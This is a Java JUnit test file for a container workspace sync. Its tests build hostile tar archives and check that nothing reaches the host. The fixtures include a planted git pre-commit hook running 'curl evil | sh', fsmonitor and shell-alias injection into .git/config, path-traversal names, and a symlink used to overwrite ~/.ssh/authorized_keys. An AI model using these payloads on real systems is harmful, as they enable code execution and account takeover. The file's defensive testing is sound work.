package dev.coi.kernel.workspace;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.coi.kernel.base.CoiException;
import dev.coi.kernel.workspace.SyncReport.Action;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermission;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * What a hostile container can put in the tar of its workspace, and that none of it reaches the host: every test
 * builds the stream header by header, as root in the container could.
 */
class WorkspaceSyncAttackTest {

    @TempDir
    Path root;

    private Path workspace;
    private Path record;
    private Path outside;

    @BeforeEach
    void setUp() throws IOException {
        workspace = Files.createDirectories(root.resolve("project"));
        record = root.resolve("coi/workspace-copies/0b5e7a3c-1111-4222-8333-944445555666");
        outside = Files.createDirectories(root.resolve("home/.ssh"));
        Files.writeString(outside.resolve("authorized_keys"), "the user's key\n");
        Files.writeString(workspace.resolve("README.md"), "hello\n");
    }

    @Test
    void aSymlinkToTheUsersSshFolderIsNotCreatedAndNothingIsWrittenThroughIt() throws IOException {
        recordBase();
        SyncReport report = sync(new HostileTar().symlink("keys", outside.toString())
                .file("keys/authorized_keys", "the attacker's key\n"));

        assertEquals("the user's key\n", Files.readString(outside.resolve("authorized_keys")));
        assertFalse(Files.isSymbolicLink(workspace.resolve("keys")));
        assertEquals(Action.NOT_BROUGHT_BACK, action(report, "keys"));
        assertNoLinksIn(workspace);
    }

    @Test
    void dotDotAndAbsolutePathsAreRefused() throws IOException {
        recordBase();
        // every path aims inside the test's own folder, so that even a broken sync writes nothing elsewhere
        SyncReport report = sync(new HostileTar().file("../escaped-1", "owned")
                .file(root.resolve("escaped-2").toString(), "owned").file("a/../../escaped-3", "owned")
                .file("./../escaped-4", "owned"));

        try (Stream<Path> files = Files.walk(root)) {
            assertTrue(files.noneMatch(path -> path.getFileName().toString().startsWith("escaped")),
                    "nothing written");
        }
        assertEquals(4, report.count(Action.NOT_BROUGHT_BACK), report.toString());
        assertEquals(0, report.count(Action.TO_HOST));
    }

    @Test
    void aHookPlantedInDotGitHooksDoesNotArrive() throws IOException {
        gitInit();
        recordBase();
        SyncReport report = sync(new HostileTar().file(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n", 0755)
                .file(".git/hooks/post-checkout", "#!/bin/sh\n", 0755));

        assertFalse(Files.exists(workspace.resolve(".git/hooks/pre-commit")));
        assertFalse(Files.exists(workspace.resolve(".git/hooks/post-checkout")));
        assertEquals(Action.NOT_BROUGHT_BACK, action(report, ".git/hooks/pre-commit"));
    }

    @Test
    void fsmonitorInDotGitConfigDoesNotArrive() throws IOException {
        gitInit();
        String config = Files.readString(workspace.resolve(".git/config"));
        recordBase();
        SyncReport report = sync(new HostileTar().file(".git/config", config + "[core]\n\tfsmonitor = /tmp/evil\n"
                + "[alias]\n\tst = !sh -c evil\n").file(".git/commondir", "/tmp/elsewhere\n")
                .file(".git/info/attributes", "* filter=evil\n")
                .file(".git/objects/info/alternates", "/tmp/objects\n"));

        assertEquals(config, Files.readString(workspace.resolve(".git/config")));
        assertFalse(Files.exists(workspace.resolve(".git/commondir")));
        assertFalse(Files.exists(workspace.resolve(".git/info/attributes")));
        assertFalse(Files.exists(workspace.resolve(".git/objects/info/alternates")));
        assertEquals(4, report.count(Action.NOT_BROUGHT_BACK), report.toString());
    }

    @Test
    void aDotGitFileOrANestedRepositoryDoesNotArrive() throws IOException {
        recordBase();
        SyncReport report = sync(new HostileTar().file(".git", "gitdir: /tmp/evil\n")
                .file("sub/.git/config", "[core]\n\tfsmonitor = evil\n").file("sub/.git/HEAD", "ref: refs/heads/x\n")
                .file("other/.GIT", "gitdir: /tmp/evil\n").file(".Git/config", "x"));

        assertFalse(Files.exists(workspace.resolve(".git"), LinkOption.NOFOLLOW_LINKS));
        assertFalse(Files.exists(workspace.resolve("sub")));
        assertFalse(Files.exists(workspace.resolve("other")));
        assertFalse(Files.exists(workspace.resolve(".Git")));
        assertEquals(0, report.count(Action.TO_HOST), report.toString());
    }

    @Test
    void historyComesBack() throws IOException {
        gitInit();
        recordBase();
        SyncReport report = sync(new HostileTar().file(".git/objects/ab/cdef0123", "blob")
                .file(".git/refs/heads/agent", "0123456789abcdef0123456789abcdef01234567\n")
                .file(".git/logs/HEAD", "log\n").file(".git/packed-refs", "# pack-refs\n"));

        assertEquals("blob", Files.readString(workspace.resolve(".git/objects/ab/cdef0123")));
        assertTrue(Files.exists(workspace.resolve(".git/refs/heads/agent")));
        assertEquals(4, report.count(Action.TO_HOST), report.toString());
        assertEquals(0, report.count(Action.DELETED_ON_HOST), "git's own files are not deleted: " + report);
    }

    @Test
    void aFileOverAFolderLinkOfTheUserIsNotWrittenThroughIt() throws IOException {
        Path docs = Files.createDirectories(root.resolve("elsewhere"));
        Files.createSymbolicLink(workspace.resolve("docs"), docs);
        recordBase();
        SyncReport report = sync(new HostileTar().directory("docs/").file("docs/evil.txt", "owned"));

        assertFalse(Files.exists(docs.resolve("evil.txt")));
        assertTrue(Files.isSymbolicLink(workspace.resolve("docs")));
        assertEquals(Action.CONFLICT, action(report, "docs/evil.txt"));
        assertEquals("owned", Files.readString(kept(report, "docs/evil.txt")));
    }

    @Test
    void aFileOverAFileLinkOfTheUserLeavesTheLinkAndItsTarget() throws IOException {
        Path target = Files.writeString(root.resolve("bashrc"), "the user's bashrc\n");
        Files.createSymbolicLink(workspace.resolve("notes.txt"), target);
        recordBase();
        SyncReport report = sync(new HostileTar().file("notes.txt", "alias ls='evil'\n"));

        assertEquals("the user's bashrc\n", Files.readString(target));
        assertTrue(Files.isSymbolicLink(workspace.resolve("notes.txt")));
        assertEquals(Action.CONFLICT, action(report, "notes.txt"));
    }

    @Test
    void hardLinksDevicesAndFifosAreNotBroughtBack() throws IOException {
        recordBase();
        SyncReport report = sync(new HostileTar().hardlink("passwd", "/etc/passwd").special("tty", '3')
                .special("disk", '4').special("pipe", '6'));

        for (String name : List.of("passwd", "tty", "disk", "pipe")) {
            assertFalse(Files.exists(workspace.resolve(name), LinkOption.NOFOLLOW_LINKS), name);
            assertEquals(Action.NOT_BROUGHT_BACK, action(report, name));
        }
    }

    @Test
    void setuidSetgidAndStickyBitsAreDropped() throws IOException {
        recordBase();
        sync(new HostileTar().file("tool", "#!/bin/sh\n", 07755));

        int mode = (Integer) Files.getAttribute(workspace.resolve("tool"), "unix:mode") & 07777;
        assertEquals(0755, mode);
    }

    @Test
    void namesWithNewlinesControlCharactersOrBadBytesAreNotBroughtBack() throws IOException {
        recordBase();
        SyncReport report = sync(new HostileTar().file("a\nb", "x").file("c\u001bd", "x")
                .rawName(new byte[] {'e', (byte) 0xff, 'f'}, "x"));

        try (Stream<Path> files = Files.list(workspace)) {
            assertEquals(List.of("README.md"), files.map(path -> path.getFileName().toString()).toList());
        }
        assertEquals(3, report.count(Action.NOT_BROUGHT_BACK), report.toString());
    }

    @Test
    void ahundredThousandTinyFilesStopTheSyncBeforeAnythingIsWritten() throws IOException {
        recordBase();
        WorkspaceSync sync = new WorkspaceSync(workspace, record, new SyncLimits(1L << 30, 100_000));
        try (InputStream many = HostileTar.manyEmptyFiles(100_001)) {
            CoiException failure = assertThrows(CoiException.class,
                    () -> sync.run(many, SyncDirection.BOTH, false, (tar, deletions) -> { }));
            assertTrue(failure.getMessage().contains("workspace.max_files"), failure.getMessage());
        }
        try (Stream<Path> files = Files.list(workspace)) {
            assertEquals(1, files.count());
        }
    }

    @Test
    void aHugeFileStopsTheSyncBeforeItsContentIsRead() throws IOException {
        recordBase();
        WorkspaceSync sync = new WorkspaceSync(workspace, record, new SyncLimits(1L << 20, 100_000));
        CoiException failure = assertThrows(CoiException.class, () -> sync.run(
                new HostileTar().claims("big", 1L << 40).stream(), SyncDirection.BOTH, false, (tar, d) -> { }));
        assertTrue(failure.getMessage().contains("workspace.max_size_mb"), failure.getMessage());
        assertFalse(Files.exists(workspace.resolve("big")));
    }

    @Test
    void aDamagedHeaderChangesNothing() throws IOException {
        recordBase();
        byte[] tar = new HostileTar().file("README.md", "changed\n").bytes();
        tar[148] = '7';
        WorkspaceSync sync = new WorkspaceSync(workspace, record, new SyncLimits(1L << 30, 100_000));
        assertThrows(IOException.class, () -> sync.run(new java.io.ByteArrayInputStream(tar), SyncDirection.BOTH,
                false, (t, d) -> { }));
        assertEquals("hello\n", Files.readString(workspace.resolve("README.md")));
    }

    private void gitInit() throws IOException {
        try {
            Process git = new ProcessBuilder("git", "init", "-q", workspace.toString()).inheritIO().start();
            assertEquals(0, git.waitFor());
        } catch (InterruptedException e) {
            throw new IOException(e);
        }
    }

    private void recordBase() throws IOException {
        Files.createDirectories(record);
        List<String> leftOut = new ArrayList<>();
        WorkspaceManifest manifest = CopyIn.write(new HostWorkspace(workspace), OutputStream.nullOutputStream(),
                leftOut);
        manifest.write(record.resolve(WorkspaceSync.MANIFEST));
    }

    private SyncReport sync(HostileTar tar) throws IOException {
        return new WorkspaceSync(workspace, record, new SyncLimits(1L << 30, 100_000))
                .run(tar.file("README.md", "hello\n").stream(), SyncDirection.FROM_CONTAINER, false,
                        (pushed, deletions) -> { });
    }

    private static Action action(SyncReport report, String path) {
        return report.changes().stream().filter(change -> change.path().equals(path)
                        || change.path().startsWith(path + ":")).map(SyncReport.Change::action).findFirst()
                .orElseThrow(() -> new AssertionError(path + " is not in " + report));
    }

    private static Path kept(SyncReport report, String path) {
        String detail = report.changes().stream().filter(change -> change.path().equals(path)).findFirst()
                .orElseThrow().detail();
        return Path.of(detail.substring(detail.indexOf(" is in ") + " is in ".length()));
    }

    private void assertNoLinksIn(Path folder) throws IOException {
        try (Stream<Path> files = Files.walk(folder)) {
            assertTrue(files.noneMatch(Files::isSymbolicLink));
        }
    }

    static String read(Path file) throws IOException {
        return new String(Files.readAllBytes(file), StandardCharsets.UTF_8);
    }

    static boolean executable(Path file) throws IOException {
        return Files.getPosixFilePermissions(file).contains(PosixFilePermission.OWNER_EXECUTE);
    }
}
